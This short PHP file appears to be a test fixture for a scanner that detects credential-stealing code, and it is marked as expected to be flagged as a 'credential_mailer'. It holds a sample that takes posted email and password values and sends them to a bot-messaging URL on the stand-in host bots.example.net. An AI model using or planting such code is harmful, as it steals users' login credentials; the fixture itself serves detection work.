<?php return; // want: suspicious credential_mailer php.send.secret
$who = $_POST['mail'];
$word = $_POST['pass'];
$key = 'abc';
$text = urlencode("mail $who word $word");
file_get_contents("https://bots.example.net/$key/say?to=7&text=$text");
